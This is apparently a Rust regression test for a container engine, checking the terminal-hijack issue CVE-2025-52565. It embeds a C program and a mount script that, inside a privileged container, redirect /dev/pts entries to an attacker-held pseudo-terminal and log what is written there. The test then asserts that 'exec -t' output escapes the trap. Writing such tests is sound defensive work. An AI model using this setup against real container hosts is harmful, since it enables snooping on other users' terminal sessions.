//! Terminals (CVE-2025-52565): what stands at `/dev/pts/N` in a container is the container's word.

use super::support::compile;

/// Has a terminal of its own, whose slave nobody controls, and keeps what is written to it in `/typed`.
const LISTENER: &str = r#"
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>
int main(void) {
    char text[4096];
    int number, open_it = 0, master = open("/real/ptmx", O_RDWR | O_NOCTTY);
    if (master < 0 || ioctl(master, TIOCSPTLCK, &open_it) != 0 || ioctl(master, TIOCGPTN, &number) != 0)
        return 1;
    for (int other = 0; other < 40; other++) {
        char name[40], target[40];
        snprintf(name, sizeof name, "/dev/pts/%d", other);
        snprintf(target, sizeof target, "/real/%d", number);
        symlink(target, name);
    }
    close(open("/ready", O_CREAT | O_WRONLY, 0644));
    for (;;) {
        int len = read(master, text, sizeof text);
        if (len > 0) {
            int out = open("/typed", O_CREAT | O_WRONLY | O_APPEND, 0644);
            write(out, text, len);
            close(out);
        } else {
            usleep(1000);
        }
    }
}
"#;

#[test]
fn an_exec_gets_its_own_terminal_whatever_the_container_has_by_that_name() {
    let engine = testkit::engine();
    let program = compile(&engine, "listener", LISTENER);
    // The multiplexer in /dev/pts is that of a devpts, and all else there is the attacker's.
    let script = "mkdir /real; mount -t devpts -o newinstance,ptmxmode=666 devpts /real; mount -t tmpfs tmpfs /dev/pts; \
                  mkdir /dev/pts/pts; mount -o bind /real /dev/pts/pts; touch /dev/pts/ptmx; \
                  mount -o bind /real/ptmx /dev/pts/ptmx; exec /listener";
    let options = format!(
        "-d --name sly --cap-add SYS_ADMIN --security-opt seccomp=unconfined --security-opt apparmor=unconfined \
         -v {}:/listener:ro busybox",
        program.display()
    );
    let mut words = vec!["run".to_owned()];
    words.extend(testkit::words(&options));
    words.extend(["sh", "-c", script].map(str::to_owned));
    let run: Vec<&str> = words.iter().map(String::as_str).collect();
    engine.cli_words(run).run().success();
    let sly = testkit::Container::new(&engine, "sly".to_owned());
    sly.await_file("/ready");
    for _ in 0..3 {
        let said = engine.ok("exec -t sly echo a-word-for-us-alone");
        assert_eq!(said.trim_end(), "a-word-for-us-alone");
    }
    let typed = std::fs::read_to_string(sly.path("/typed")).unwrap_or_default();
    assert_eq!(typed, "", "the container has it");
}
